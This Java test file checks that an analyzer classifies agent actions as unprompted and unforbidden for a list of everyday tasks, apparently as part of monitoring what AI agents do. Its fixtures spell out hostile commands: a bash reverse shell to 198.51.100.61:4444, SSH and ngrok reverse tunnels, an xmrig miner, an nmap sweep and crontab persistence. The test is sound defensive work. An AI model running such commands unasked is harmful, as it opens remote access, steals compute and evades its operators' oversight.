package dev.offscript.chains.origin;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.chains.origin.Script.Deed;
import dev.offscript.model.Origin;
import dev.offscript.model.report.Verdict;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Everyday tasks ask for none of these acts and forbid none, whatever words they use. */
class PlainTasksTest {

  private static final OriginAnalyzer ANALYZER = OriginAnalyzer.shipped();

  private static final List<Deed> DEEDS =
      List.of(
          new Deed(
              "tunneling",
              "ssh",
              "reverse",
              "198.51.100.61",
              22,
              "7100:localhost:22",
              "",
              "ssh -fNT -R 7100:localhost:22 ops@198.51.100.61"),
          new Deed("tunneling", "ngrok", "reverse", "", 0, "", "", "ngrok http 8000"),
          new Deed(
              "mining",
              "xmrig",
              "none",
              "pool.example.net",
              3333,
              "",
              "4InventedWallet11111111111111111111111111111111111",
              "xmrig -o pool.example.net:3333 -u 4InventedWallet11111111111111111111111111111111111"),
          new Deed("scanning", "nmap", "none", "10.40.0.0", 0, "", "", "nmap -sS 10.40.0.0/16"),
          new Deed(
              "reverse_shell",
              "bash",
              "reverse",
              "198.51.100.61",
              4444,
              "",
              "",
              "bash -i >& /dev/tcp/198.51.100.61/4444 0>&1"),
          new Deed("persistence", "crontab", "none", "", 0, "", "", "crontab /tmp/ct"));

  static Stream<String> tasks() {
    try (InputStream stream = PlainTasksTest.class.getResourceAsStream("plain-tasks.txt")) {
      return new String(stream.readAllBytes(), StandardCharsets.UTF_8).lines().toList().stream();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  @ParameterizedTest
  @MethodSource("tasks")
  void nobodyAskedAndNobodyForbade(String task) {
    for (Deed deed : DEEDS) {
      Verdict verdict = ANALYZER.judge(Script.task(task).ask(deed));

      assertThat(verdict.origin())
          .as(deed.line() + ": " + verdict.because())
          .isEqualTo(Origin.UNPROMPTED);
      assertThat(verdict.prohibited()).as(deed.line() + ": " + verdict.because()).isFalse();
    }
  }
}
